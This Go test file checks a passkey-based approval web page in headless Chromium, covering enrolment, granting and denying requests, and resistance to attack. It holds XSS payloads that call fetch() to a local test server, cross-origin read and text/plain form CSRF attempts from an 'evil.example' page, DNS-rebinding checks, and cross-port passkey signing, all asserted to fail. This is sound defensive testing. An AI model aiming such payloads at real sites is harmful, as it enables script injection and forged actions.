package authority

import (
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"cal/approval"
	"cal/approval/client"
	"cal/internal/chromium"
	"cal/nucleus"
)

// liveBench is a bench on the system's clock, which a browser has too.
func liveBench(t *testing.T) *bench {
	t.Helper()
	b := newBench(t, func(cfg *Config) { cfg.Now = time.Now })
	b.c.ms.Store(time.Now().UnixMilli())
	return b
}

// enrolIn makes the passkey of an approver in a tab, and vouches for it with the fingerprint that
// the page shows.
func (b *bench) enrolIn(t *testing.T, tab *chromium.Tab, name string, port int) (origin string) {
	t.Helper()
	e, err := b.client.Enrol(t.Context(), client.NewPasskey{Name: name, Port: port})
	if err != nil {
		t.Fatal(err)
	}
	tab.Go(e.Link)
	tab.Click("#enrol-go")
	tab.Until(`document.getElementById("fingerprint").textContent`)
	shown := tab.Text("#fingerprint")
	made, err := b.client.Enrolled(t.Context(), e.ID)
	if err != nil || made.Fingerprint != shown {
		t.Fatalf("the page shows %q, the terminal %+v, %v", shown, made, err)
	}
	if _, err := b.vouch(t, e.ID, name, shown); err != nil {
		t.Fatal(err)
	}
	origin, _, _ = strings.Cut(e.Link, "/#")
	return origin
}

func (b *bench) link(t *testing.T, ask string) string {
	t.Helper()
	page, err := b.client.Page(t.Context(), ask)
	if err != nil {
		t.Fatal(err)
	}
	return page.Link
}

func (b *bench) state(t *testing.T, ask string) client.Status {
	t.Helper()
	status, err := b.client.Status(t.Context(), ask)
	if err != nil {
		t.Fatal(err)
	}
	return status
}

// A person makes a passkey, sees an ask come in, and grants it with the passkey; refuses another
// by keyboard; and what the authenticator does not verify grants nothing.
func TestPageInChromium(t *testing.T) {
	browser := chromium.Start(t)
	b := liveBench(t)
	tab := browser.Open("about:blank")
	device := tab.Passkeys(true)
	b.enrolIn(t, tab, "touch", freePort(t))

	tab.Go(b.link(t, ""))
	tab.Until(`!document.getElementById("queue").hidden`)
	var hash string
	if err := tab.Eval("location.hash", &hash); err != nil || hash != "" {
		t.Errorf("the key stays in the address: %q, %v", hash, err)
	}
	ask := askAt(t, b.c, "a-1", nil)
	digest := b.submit(t, ask).AskDigest
	tab.Click(`[data-ask="a-1"]`)
	tab.Until(`document.getElementById("text").textContent`)
	for _, width := range []int{1280, 700, 390} {
		tab.Call("Emulation.setDeviceMetricsOverride", map[string]any{"width": width, "height": 900, "deviceScaleFactor": 1, "mobile": false}, nil)
		tab.Until(`document.getElementById("text").scrollWidth <= document.getElementById("text").clientWidth && document.documentElement.scrollWidth <= innerWidth`)
		var text string
		var columns int
		if err := errors.Join(tab.Eval(`document.getElementById("text").textContent`, &text), tab.Eval(`columns()`, &columns)); err != nil {
			t.Fatal(err)
		}
		screen, err := approval.Draw(ask, approval.View{Width: columns})
		if err != nil || text != screen.Text {
			t.Fatalf("%d wide: the page shows %q, %v; what is signed draws %q", width, text, err, screen.Text)
		}
	}
	tab.Call("Emulation.clearDeviceMetricsOverride", nil, nil)
	tab.Until(`innerWidth !== 390`)
	if got := tab.Text("#ask-digest"); got != digest {
		t.Errorf("digest %q, want %q", got, digest)
	}

	// What will happen stands last: it has to have been in sight before it can be approved.
	tab.Until(`!document.getElementById("deny").disabled && document.getElementById("hint").textContent.includes("read to the end")`)
	var early bool
	if err := tab.Eval(`!document.getElementById("approve").disabled`, &early); err != nil || early {
		t.Errorf("it can be approved unread: %v, %v", early, err)
	}
	readToTheEnd(t, tab)
	tab.Verify(device, false)
	tab.Click("#approve")
	tab.Until(`!document.getElementById("error").hidden`)
	if status := b.state(t, "a-1"); status.State != client.Pending || len(status.Grants) != 0 {
		t.Fatalf("not verified: %+v", status)
	}
	tab.Verify(device, true)
	tab.Click("#reason")
	tab.Type("looks right")
	tab.Click("#approve")
	tab.Until(`document.getElementById("outcome").textContent.includes("Granted by touch")`)
	status := b.state(t, "a-1")
	grants, err := approval.Approved(status.Tokens(), ask, b.Approvers(), time.Now().UnixMilli())
	if err != nil || grants[0].Approver != "touch" || grants[0].Reason != "looks right" {
		t.Fatalf("%+v, %+v, %v", status, grants, err)
	}

	// By keyboard alone: to the ask, past its text, to the reason, and on to Deny.
	b.submit(t, askAt(t, b.c, "a-2", nil))
	tab.Until(`document.querySelector('[data-ask="a-2"]')`)
	if err := tab.Eval(`document.querySelector('[data-ask="a-2"]').focus()`, nil); err != nil {
		t.Fatal(err)
	}
	tab.Key("Enter", 13)
	tab.Until(`document.activeElement.id === "ask-h" && document.getElementById("ask-id").textContent === "a-2"`)
	tab.Until(`!document.getElementById("deny").disabled`)
	readToTheEnd(t, tab)
	tab.Until(`!document.getElementById("approve").disabled`)
	var stops []string
	for range 5 {
		tab.Key("Tab", 9)
		var id string
		if err := tab.Eval("document.activeElement.id", &id); err != nil {
			t.Fatal(err)
		}
		stops = append(stops, id)
		if id == "reason" {
			tab.Type("not this branch")
		}
		if id == "deny" {
			break
		}
	}
	if !slices.Equal(stops, []string{"text", "reason", "approve", "deny"}) {
		t.Fatalf("the keyboard stops at %q", stops)
	}
	tab.Key("Enter", 13)
	tab.Until(`document.getElementById("outcome").textContent.includes("Denied: not this branch")`)
	if status := b.state(t, "a-2"); status.State != client.Denied || status.Reason != "not this branch" {
		t.Errorf("%+v", status)
	}

	// Enter in the reason sends nothing.
	b.submit(t, askAt(t, b.c, "a-3", nil))
	tab.Go(b.link(t, "a-3"))
	tab.Until(`document.getElementById("ask-id").textContent === "a-3" && !document.getElementById("deny").disabled`)
	tab.Click("#reason")
	tab.Key("Enter", 13)
	// A fresh ask takes no click: neither from a hand on its way, nor ever from a script.
	if err := tab.Eval(`doze()`, nil); err != nil {
		t.Fatal(err)
	}
	tab.ClickAnyhow("#deny")
	tab.Until(`!document.getElementById("deny").disabled`)
	if err := tab.Eval(`document.getElementById("deny").click()`, nil); err != nil {
		t.Fatal(err)
	}
	if status := b.state(t, "a-3"); status.State != client.Pending {
		t.Errorf("%+v", status)
	}
	tab.Click("#deny")
	tab.Until(`document.getElementById("outcome").textContent.includes("Denied")`)
	// ES256 is what every authenticator has; RS256, which the browser misses, is what few have.
	log := slices.DeleteFunc(tab.Console(), func(line string) bool { return strings.Contains(line, "pub_key_cred_params") })
	if len(log) > 0 {
		t.Errorf("the console says %q", log)
	}
	// Without the key the browser is shown nothing.
	if err := tab.Eval(`localStorage.clear()`, nil); err != nil {
		t.Fatal(err)
	}
	other := browser.Open(b.passkeys.page.origin + "/#key=x&ask=a-1")
	other.Until(`!document.getElementById("locked").hidden && document.getElementById("queue").hidden`)
}

func readToTheEnd(t *testing.T, tab *chromium.Tab) {
	t.Helper()
	if err := tab.Eval(`document.getElementById("text").scrollTop = 1e9`, nil); err != nil {
		t.Fatal(err)
	}
}

// hostileAsk has a payload in every text of it.
func hostileAsk(t *testing.T, b *bench, address string) nucleus.AskRequest {
	payloads := []string{
		`<img src="` + address + `/img" onerror="fetch('` + address + `/onerror')">`,
		`<script>fetch("` + address + `/script");document.title="owned"</script>`,
		`"><svg onload=fetch('` + address + `/svg')>`,
		`'-fetch("` + address + `/attr")-'`,
		`</pre></title></style></script><script src="` + address + `/src"></script>`,
		`<iframe src="` + address + `/frame"></iframe><link rel=stylesheet href="` + address + `/css">`,
		"\u202egnp.exe\u2066\x1b[31m\u00a0<b id=bold>", "{{.}}", `javascript:fetch('` + address + `/js')`,
	}
	i := 0
	next := func() string { i++; return payloads[i%len(payloads)] + fmt.Sprint(i) }
	return askAt(t, b.c, "a-hostile", func(q *nucleus.AskRequest) {
		q.Workspace, q.Rule, q.Why, q.Tier, q.Mode = next(), next(), next(), next(), next()
		q.Action.Push = &nucleus.Push{Repo: next(), Remote: payloads[0], Ref: payloads[4], Old: next(), New: next()}
		for range len(payloads) {
			q.Detail = append(q.Detail, nucleus.Detail{Title: next(), Text: next() + "\n" + next()})
			q.Evidence = append(q.Evidence, nucleus.Evidence{Seq: 1, Leg: next(), What: next()})
		}
	})
}

// No text of an ask, and no reason, runs, loads or hides anything. The control: written as markup
// without the policy it does.
func TestPageHostileTextIsText(t *testing.T) {
	var mu sync.Mutex
	var hits []string
	web := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		hits = append(hits, r.URL.Path)
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}))
	defer web.Close()
	browser := chromium.Start(t)
	// look opens the ask in a page of this text and policy, and hands over the tab once it has settled.
	text, policy := pageText, pagePolicy
	look := func(pageOf []byte, under, ready string, use func(origin string, tab *chromium.Tab, loaded []string)) {
		t.Helper()
		pageText, pagePolicy = pageOf, under // before there is a server, and back when there is none
		defer func() { pageText, pagePolicy = text, policy }()
		b := liveBench(t)
		defer b.stop()
		v, _ := b.withPasskey(t, "touch", freePort(t))
		b.submit(t, hostileAsk(t, b, web.URL))
		mu.Lock()
		hits = nil
		mu.Unlock()
		tab := browser.Open("about:blank")
		tab.Call("Emulation.setDeviceMetricsOverride", map[string]any{"width": 1900, "height": 900, "deviceScaleFactor": 1, "mobile": false}, nil) // no payload is cut in two
		tab.Go(b.link(t, "a-hostile"))
		tab.Until(ready)
		// What markup would load is asked for at once; what a broken picture does comes after one answer.
		if err := tab.Eval(`new Promise((resolve) => setTimeout(resolve, 500))`, nil); err != nil {
			t.Fatal(err)
		}
		mu.Lock()
		loaded := slices.Clone(hits)
		mu.Unlock()
		use(v.origin, tab, loaded)
		tab.Go("about:blank")
	}
	const shown = `document.getElementById("text").textContent.length > 500 && document.querySelectorAll("#list button").length === 1`

	look(text, policy, shown, func(origin string, tab *chromium.Tab, loaded []string) {
		if len(loaded) > 0 {
			t.Errorf("it loaded %q", loaded)
		}
		for _, address := range tab.Requests() {
			if address != "about:blank" && !strings.HasPrefix(address, origin+"/") {
				t.Errorf("it asked for %s", address)
			}
		}
		if log := tab.Console(); len(log) > 0 {
			t.Errorf("the console says %q", log)
		}
		var odd []string
		if err := tab.Eval(`[...document.querySelectorAll("img,svg,iframe,link,b,script[src],[onerror],[onload]")].map((e) => e.outerHTML)`, &odd); err != nil || len(odd) > 0 {
			t.Errorf("the page has %q, %v", odd, err)
		}
		var told string
		if err := tab.Eval(`document.body.innerText`, &told); err != nil || !strings.Contains(told, `\u{202e}gnp.exe`) || !strings.Contains(told, `<img src=`) {
			t.Errorf("the text is not shown as it is: %v", err)
		}
		for _, r := range told {
			if r > 0x7e && r != '·' {
				t.Errorf("the page shows %q", r)
			}
		}
	})

	// The same ask in a page that writes it as markup: without the policy, with it but for Trusted
	// Types, and with all of it.
	loose := strings.Replace(pageJS, `$("text").textContent = ask.text`, `$("text").innerHTML = ask.text`, 1)
	if loose == pageJS {
		t.Fatal("the control changes nothing")
	}
	looseText := []byte(strings.Replace(string(text), pageJS, loose, 1))
	loosePolicy := strings.Replace(policy, sourceHash(pageJS), sourceHash(loose), 1)
	look(looseText, "default-src * 'unsafe-inline'", shown, func(_ string, _ *chromium.Tab, loaded []string) {
		if len(loaded) < 3 {
			t.Errorf("the control: without escaping and policy it loaded %q", loaded)
		}
	})
	look(looseText, regexp.MustCompile(`; require-trusted-types.*`).ReplaceAllString(loosePolicy, ""), shown, func(_ string, tab *chromium.Tab, loaded []string) {
		if len(loaded) > 0 {
			t.Errorf("the policy alone let it load %q", loaded)
		}
		if len(tab.Console()) == 0 {
			t.Error("the control: the console says nothing of what the policy stopped")
		}
	})
	look(looseText, loosePolicy, `document.getElementById("error").textContent.includes("TrustedHTML")`, func(string, *chromium.Tab, []string) {})
}

// Pages of other sites in the same browser, of another port of this host, and by a name that was
// pointed here reach nothing, and what they get a passkey to sign grants nothing.
func TestPageAndOtherSites(t *testing.T) {
	b := liveBench(t)
	port := freePort(t)
	browser := chromium.Start(t, "--host-resolver-rules=MAP evil.example 127.0.0.1, MAP rebound.example 127.0.0.1")
	tab := browser.Open("about:blank")
	tab.Passkeys(true)
	origin := b.enrolIn(t, tab, "touch", port)
	digest := b.submit(t, askAt(t, b.c, "a-1", nil)).AskDigest
	key := linkPart(t, b.link(t, ""), "key")
	web := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = w.Write([]byte("<!doctype html><title>other</title>"))
	}))
	defer web.Close()
	_, webPort, err := net.SplitHostPort(web.Listener.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	attack := func(tab *chromium.Tab, expression string) (result string) {
		t.Helper()
		if err := tab.Eval(expression, &result); err != nil {
			result = "threw: " + err.Error()
		}
		return result
	}
	body, err := json.Marshal(pageDecision{AskDigest: digest, Approver: "touch"})
	if err != nil {
		t.Fatal(err)
	}
	for _, site := range []string{"http://evil.example:" + webPort, "http://localhost:" + webPort} {
		tab.Go(site)
		tab.Until(`document.title === "other"`)
		// They even know the page's key.
		for what, script := range map[string]string{
			"reads":        fmt.Sprintf(`fetch(%q, { headers: { "Nucleus-Page": %q } }).then((r) => r.text())`, origin+"/api/asks", key),
			"reads blind":  fmt.Sprintf(`fetch(%q, { mode: "no-cors" }).then((r) => r.text())`, origin+"/api/asks"),
			"denies":       fmt.Sprintf(`fetch(%q, { method: "POST", body: %q, headers: { "Nucleus-Page": %q, "Content-Type": "application/json" } }).then((r) => r.text())`, origin+"/api/asks/a-1/denial", body, key),
			"denies blind": fmt.Sprintf(`fetch(%q, { method: "POST", mode: "no-cors", body: %q }).then((r) => r.text())`, origin+"/api/asks/a-1/denial", body),
			"frames": fmt.Sprintf(`new Promise((resolve) => { const f = document.createElement("iframe"); f.allow = "publickey-credentials-get *"; f.src = %q;
				f.onload = () => { let what = "inside"; try { what = f.contentDocument ? "blank" : "closed"; } catch (e) { what = "closed"; } resolve(what + " " + f.contentWindow.length); }; document.body.append(f); })`, origin+"/"),
		} {
			if got := attack(tab, script); strings.Contains(got, "a-1") || strings.Contains(got, "denied") {
				t.Errorf("%s: %s: %q", site, what, got)
			}
		}
		// A form needs no leave to be sent.
		tab.Go(site)
		tab.Until(`document.title === "other"`)
		_ = tab.Eval(fmt.Sprintf(`(() => { const f = document.createElement("form"); f.method = "POST"; f.enctype = "text/plain"; f.action = %q;
			const i = document.createElement("input"); i.name = %q; i.value = '"}'; f.append(i); document.body.append(f); f.submit(); })()`, origin+"/api/asks/a-1/denial", string(body[:len(body)-1])+`,"x":"`), nil)
		tab.Until(`location.origin === ` + fmt.Sprintf("%q", origin))
		if got := tab.Text("body"); !strings.Contains(got, "forbidden") {
			t.Errorf("%s: a form: %q", site, got)
		}
	}
	// A name that was pointed here.
	tab.Go(fmt.Sprintf("http://rebound.example:%d/", port))
	tab.Until(`location.hostname === "rebound.example" && document.body.innerText.length > 0`)
	if got := tab.Text("body"); !strings.Contains(got, "forbidden") {
		t.Errorf("a name pointed here is shown %q", got)
	}
	if got := attack(tab, `fetch("/api/asks", { headers: { "Nucleus-Page": "`+key+`" } }).then((r) => r.text())`); !strings.Contains(got, "forbidden") {
		t.Errorf("a name pointed here reads %q", got)
	}

	// A page of another port of this host shares the relying party: it gets the passkey to sign
	// the very challenge of a grant, which a program of the same user has fetched for it.
	v := visitor{t: t, origin: origin, key: key}
	sign := func(site string) pageSignature {
		t.Helper()
		asked, err := v.begin("a-1", digest, "touch")
		if err != nil {
			t.Fatal(err)
		}
		raw, err := json.Marshal(asked)
		if err != nil {
			t.Fatal(err)
		}
		tab.Go(site)
		tab.Until(fmt.Sprintf(`location.origin === %q && document.readyState === "complete"`, site))
		s := pageSignature{Challenge: asked.Challenge}
		err = tab.Eval(`(async () => { const asked = `+string(raw)+`, bytes = (s) => Uint8Array.from(atob(s), (c) => c.charCodeAt(0)), b64 = (b) => btoa(String.fromCharCode(...new Uint8Array(b)));
			const got = await navigator.credentials.get({ publicKey: { challenge: bytes(asked.challenge), rpId: "localhost", userVerification: "required", allowCredentials: [{ type: "public-key", id: bytes(asked.credential) }] } });
			return { challenge: asked.challenge, client_data: b64(got.response.clientDataJSON), authenticator_data: b64(got.response.authenticatorData), signature: b64(got.response.signature) }; })()`, &s)
		if err != nil || len(s.Signature) == 0 {
			t.Fatalf("%s: the passkey did not sign: %v", site, err)
		}
		return s
	}
	_, err = v.finish("a-1", sign("http://localhost:"+webPort))
	wantKind(t, "signed on another port", err, nucleus.KindForbidden, "origin")
	if status := b.state(t, "a-1"); status.State != client.Pending || len(status.Grants) != 0 {
		t.Fatalf("%+v", status)
	}
	if status, err := v.finish("a-1", sign(origin)); err != nil || status.State != client.Granted {
		t.Errorf("positive control: %+v, %v", status, err)
	}
}

// A page of anybody's leads this browser to the approval page with a key that is none: what is kept
// there stays, and the person's tabs go on. A key of the authority that was started anew is taken.
func TestPageForeignLink(t *testing.T) {
	browser := chromium.Start(t)
	b := liveBench(t)
	tab := browser.Open("about:blank")
	tab.Passkeys(true)
	port := freePort(t)
	origin := b.enrolIn(t, tab, "touch", port)
	const open = `!document.getElementById("queue").hidden`
	tab.Go(b.link(t, ""))
	tab.Until(open)
	kept := func(tab *chromium.Tab) (key string) {
		t.Helper()
		if err := tab.Eval(`String(localStorage.getItem("key"))`, &key); err != nil {
			t.Fatal(err)
		}
		return key
	}
	good := kept(tab)
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<script>location.href=%q</script>`, origin+"/#key=garbage")
	}))
	defer evil.Close()
	other := browser.Open("about:blank")
	other.Go(evil.URL)
	other.Until(`location.origin === "` + origin + `" && document.getElementById("queue") && (` + open + ` || !document.getElementById("locked").hidden)`)
	if got := kept(other); got != good || good == "null" {
		t.Errorf("the key that is kept is %q, was %q", got, good)
	}
	other.Until(open)
	tab.Go("about:blank")
	tab.Go(origin + "/")
	tab.Until(open)

	// Without a key that is kept, one that is none locks.
	if err := other.Eval(`localStorage.clear(), true`, new(bool)); err != nil {
		t.Fatal(err)
	}
	other.Go("about:blank")
	other.Go(origin + "/#key=garbage")
	other.Until(`!document.getElementById("locked").hidden`)
	if got := kept(other); got != "null" {
		t.Errorf("%q is kept", got)
	}
	other.Go("about:blank")
	other.Go(b.link(t, ""))
	other.Until(open)
	if got := kept(other); got != good {
		t.Errorf("the key that is kept is %q, want %q", got, good)
	}
}

// Pictures of the page, for whoever wants to look: PAGE_PICTURES names a directory.
func TestPagePictures(t *testing.T) {
	dir := os.Getenv("PAGE_PICTURES")
	if dir == "" {
		t.Skip("PAGE_PICTURES names no directory")
	}
	browser := chromium.Start(t)
	b := liveBench(t)
	b.withPasskey(t, "touch", freePort(t))
	b.submit(t, askAt(t, b.c, "a-1", func(q *nucleus.AskRequest) {
		q.Detail = []nucleus.Detail{{Title: "diff", Text: strings.Repeat("-old line\n+new line\n", 60)}}
	}))
	b.submit(t, askAt(t, b.c, "a-2", func(q *nucleus.AskRequest) { q.Approvals = 2 }))
	tab := browser.Open("about:blank")
	for _, size := range [][2]int{{1280, 900}, {390, 844}} {
		tab.Call("Emulation.setDeviceMetricsOverride", map[string]any{"width": size[0], "height": size[1], "deviceScaleFactor": 1, "mobile": false}, nil)
		for _, scheme := range []string{"light", "dark"} {
			tab.Call("Emulation.setEmulatedMedia", map[string]any{"features": []map[string]string{{"name": "prefers-color-scheme", "value": scheme}}}, nil)
			name := func(what string) string {
				return filepath.Join(dir, fmt.Sprintf("%s-%s-%d.png", what, scheme, size[0]))
			}
			tab.Go("about:blank")
			tab.Go(b.link(t, "a-1"))
			tab.Until(`!document.getElementById("ask").hidden && !document.getElementById("deny").disabled`)
			tab.Screenshot(name("ask"))
			e, err := b.client.Enrol(t.Context(), client.NewPasskey{Name: "other"})
			if err != nil {
				t.Fatal(err)
			}
			tab.Go("about:blank")
			tab.Go(e.Link)
			tab.Until(`document.getElementById("enrol-name").textContent`)
			tab.Screenshot(name("enrol"))
		}
	}
	tab.Go("about:blank")
	tab.Go(b.passkeys.page.origin + "/#key=x")
	tab.Until(`!document.getElementById("locked").hidden`)
	tab.Screenshot(filepath.Join(dir, "locked.png"))
}
